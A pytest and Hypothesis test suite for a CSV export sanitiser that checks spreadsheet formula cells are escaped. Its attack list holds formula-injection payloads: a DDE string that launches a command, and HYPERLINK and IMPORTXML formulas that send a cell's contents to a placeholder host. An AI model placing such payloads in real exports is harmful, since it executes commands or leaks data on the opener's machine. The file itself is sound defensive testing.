"""A text that a spreadsheet would run: whoever opens the CSV, however it is cut into cells, runs nothing."""

from __future__ import annotations

import csv
import io
import re
import sys
import time
import unicodedata
from datetime import date

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sync_server.files import tabular
from sync_server.files.tabular import Book, Column, Table, harmless

FOLDED = frozenset("=+-@")
SEEN_AS_MINUS = "\u2212"
"""What LibreOffice reads as a minus."""
BARE = re.compile(r"""[\s"\u200b\u200e\u202e\u2060\ufeff\xad\u3164]*""")
"""What a spreadsheet takes off before it looks, or does not show."""
DDE = "=cmd|' /C calc'!A0"
ATTACKS = (
    "=1+1", "+1", "-1+1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹣1", "⁼1", "−1",
    DDE, f"+{DDE[1:]}",
    f"Rue des Prés,{DDE}", f"Rue des Prés;{DDE}", f"Rue,  {DDE}", f"Rue\n{DDE}", f"Rue\r{DDE}", f"Rue\r\n{DDE}",
    f"Rue\t{DDE}", f"Rue|{DDE}", f"Rue\u2028{DDE}", f"Rue\x85{DDE}", f'Rue,"{DDE}"', f'Rue,""{DDE}',
    '=HYPERLINK("https://a.example/?"&A1;"Mairie")', 'a,=IMPORTXML(CONCAT("https://a.example",A1),"//a")',
    *(f"{before}{DDE}"
      for before in ("\t", "\r", "\n", " ", "\xa0", "\u200b", "\ufeff", "\u202e", "\u3000", '"', "\u3164")),
    *(f"a,{before}＝1" for before in ("\t", "\r\n", " \n ", "\xa0\u200b", "\u2060", '" ')),
    "a,,=1", "a,;=1", ",=1", ";=1", "a,b,c,=1,=2", "=1,=2\n=3", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
TYPED = st.text(
    st.sampled_from([*"=+-@＝−,;|\t\r\n \"'\xa0\u200b\ufeffaé1"]) | st.characters(exclude_categories=["Cs"]),
    max_size=24,
)


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes the cell for a formula: what it sees first is a sign, in any width, or it begins
    with what OWASP says is taken off. The end of a row that a wrong cut has put into a cell is none of that."""
    rest = BARE.sub("", cell, count=1)
    first = unicodedata.normalize("NFKC", rest[:1])[:1]
    blank = cell[:1] in ("\t", "\r") and cell[:2] != "\r\n"
    return bool(first) and (first in FOLDED or first == SEEN_AS_MINUS or blank)


def cells(content: str) -> list[str]:
    """Every cell that any way of cutting the file finds in it."""
    found = [part for line in re.split("[\r\n\u2028\u2029\x85]", content) for part in re.split("[,;|\t]", line)]
    for separator in ",;|\t":
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
            found += row
    return found


def written(*texts: str) -> str:
    """The file that holds each text in a row, after another cell and before it, in sentences and headers."""
    columns = (Column("Code"), Column(texts[0]), Column("Fin"))
    rows = [("ville", text, "fin") for text in texts] + [(text, text, text) for text in texts]
    table = Table(texts[0], columns, rows, before=texts, notes=texts)
    return tabular.to_csv(Book("Essai", date(2026, 3, 10), (table,))).decode("utf-8-sig")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_address_typed_as_a_formula_runs_nowhere(attack: str) -> None:
    assert any(map(runs, cells(f"ville;{attack}")))  # it is one, as typed
    assert not [cell for cell in cells(written(attack)) if runs(cell)]


@given(st.lists(TYPED, min_size=1, max_size=3))
@example(['a,"', '"=1', ',"'])
@example(["a,", "=1"])
@example(["\n"])
@example(['"', ',"=1"'])
def test_whatever_is_typed_runs_nowhere(texts: list[str]) -> None:
    assert not [cell for cell in cells(written(*texts)) if runs(cell)]


def as_typed(text: str) -> str:
    """The text again, from its cell: one apostrophe less at each beginning of a cell that needed it."""
    signs, unseen = re.escape(tabular.SIGNS), tabular._UNSEEN
    cut = rf"\A|{tabular._HARD}|{tabular._SOFT.pattern}"
    needed = rf"({cut})'(?=(?:{unseen})*[{signs}])|(\A|{tabular._HARD})'(?='*[\t\r\n])"
    return re.sub(needed, lambda found: found[1] if found[1] is not None else found[2], text)


@given(TYPED)
@example("''=1")
@example("a,'\t'=1")
@example("\r\n=1")
def test_what_was_typed_can_be_read_back_from_the_cell(text: str) -> None:
    content = tabular.to_csv(
        Book("Essai", date(2026, 3, 10), (Table("T", (Column("A"), Column("B")), [("ville", text)]),))
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    [(_, cell)] = [row for row in rows if row[:1] == ["ville"]]
    assert as_typed(cell) == tabular.clean(text)


@pytest.mark.parametrize(
    "text",
    ["Mairie, place d’Armes", "14 h - 17 h", "lundi\r\n\r\nmardi", "0,25 ; 1,5", "l’été (juin, juillet)",
     "a@b.example", "Trait-d’union, « rue »", ""],
)  # fmt: skip
def test_an_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_every_width_of_a_sign_is_known() -> None:
    every = map(chr, range(sys.maxunicode + 1))
    folded = {one for one in every if unicodedata.normalize("NFKC", one)[:1] in FOLDED | {SEEN_AS_MINUS}}
    assert folded == set(tabular.SIGNS)


def test_everything_unseen_may_stand_before_a_sign() -> None:
    every = [chr(code) for code in range(sys.maxunicode + 1) if not 0xD800 <= code < 0xE000]
    unseen = [one for one in every if unicodedata.category(one)[0] in "CZ"]
    assert len(unseen) > 900_000
    assert [one for one in unseen[:5_000] if harmless(f"a,{one}=1") == f"a,{one}=1"] == []
    one = re.compile(tabular._UNSEEN)
    assert [each for each in unseen if not one.fullmatch(each)] == []


def test_a_long_text_made_to_be_slow_is_not() -> None:
    began = time.perf_counter()
    for part in ('\t"', " ,", "\r", "'", ",'", "\t'=", ",\n"):
        harmless(part * 20_000)
    assert time.perf_counter() - began < 2  # 6 s each, where one look is had from every place
